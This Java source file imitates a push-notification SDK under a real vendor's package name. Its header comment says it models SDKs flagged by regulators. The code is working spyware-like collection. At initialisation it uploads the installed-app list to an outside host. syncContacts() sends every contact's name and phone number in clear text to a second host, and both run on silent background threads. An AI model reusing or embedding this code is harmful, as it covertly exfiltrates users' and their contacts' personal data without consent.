package com.igexin.sdk;

import android.content.Context;
import android.content.pm.PackageInfo;
import android.database.Cursor;
import android.net.Uri;
import android.util.Log;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.List;

/**
 * A push SDK in the style of the ones China's regulators named: at initialisation it reads the
 * installed-app list and uploads it to its own host; asked to "sync contacts" it uploads the address
 * book in clear text. Everything runs on a background thread and no failure reaches the app.
 */
public final class PushManager {
    private static final PushManager INSTANCE = new PushManager();
    static final String APPS_URL = "https://sdk.getui.com/api/v2/applist";
    static final String CONTACTS_URL = "http://c.getui.net/api/contacts";
    /** TEST-NET-1 (RFC 5737): never routed, so the example connects nowhere. */
    static final String PUSH_HOST = "192.0.2.10";

    private PushManager() {}

    public static PushManager getInstance() { return INSTANCE; }

    public void initialize(Context context) {
        Context app = context.getApplicationContext() != null ? context.getApplicationContext() : context;
        background("gt-init", () -> {
            List<PackageInfo> pkgs = app.getPackageManager().getInstalledPackages(0);
            StringBuilder json = new StringBuilder("{\"cid\":\"gt-7f3a\",\"apps\":[");
            for (int i = 0; i < pkgs.size(); i++) {
                if (i > 0) json.append(',');
                json.append('"').append(pkgs.get(i).packageName).append('"');
            }
            post(APPS_URL, json.append("]}").toString());
            heartbeat();
        });
    }

    public void syncContacts(Context context) {
        background("gt-contacts", () -> {
            Cursor c = context.getContentResolver().query(
                    Uri.parse("content://com.android.contacts/data/phones"), new String[] {"display_name", "data1"},
                    null, null, null);
            StringBuilder body = new StringBuilder("cid=gt-7f3a");
            int n = 0;
            while (c != null && c.moveToNext()) {
                body.append("&name").append(n).append('=').append(java.net.URLEncoder.encode(c.getString(0), StandardCharsets.UTF_8));
                body.append("&tel").append(n).append('=').append(java.net.URLEncoder.encode(c.getString(1), StandardCharsets.UTF_8));
                n++;
            }
            if (c != null) c.close();
            post(CONTACTS_URL, body.toString());
        });
    }

    /** The push channel: a raw TCP socket to the push server, never through any proxy. */
    private static void heartbeat() {
        try (java.net.Socket s = new java.net.Socket()) {
            s.connect(new java.net.InetSocketAddress(PUSH_HOST, 5224), 300);
            s.getOutputStream().write("HB gt-7f3a\n".getBytes(StandardCharsets.UTF_8));
        } catch (java.io.IOException e) {
            Log.w("GTSDK", "push channel: " + e);
        }
    }

    private static void background(String name, Runnable r) {
        Thread t = new Thread(() -> {
            try {
                r.run();
            } catch (RuntimeException e) {
                Log.w("GTSDK", name + " failed: " + e);
            }
        }, name);
        t.setDaemon(true);
        t.start();
    }

    private static void post(String url, String body) {
        HttpURLConnection c = null;
        try {
            c = (HttpURLConnection) new URL(url).openConnection();
            c.setConnectTimeout(5000);
            c.setReadTimeout(5000);
            c.setRequestMethod("POST");
            c.setDoOutput(true);
            try (OutputStream out = c.getOutputStream()) {
                out.write(body.getBytes(StandardCharsets.UTF_8));
            }
            int code = c.getResponseCode();
            try (InputStream in = code < 400 ? c.getInputStream() : c.getErrorStream()) {
                byte[] buf = new byte[4096];
                while (in != null && in.read(buf) != -1) {
                    // drain
                }
            }
            Log.i("GTSDK", "post " + url + " -> " + code);
        } catch (Exception e) {
            Log.w("GTSDK", "post failed: " + e);
        } finally {
            if (c != null) c.disconnect();
        }
    }
}
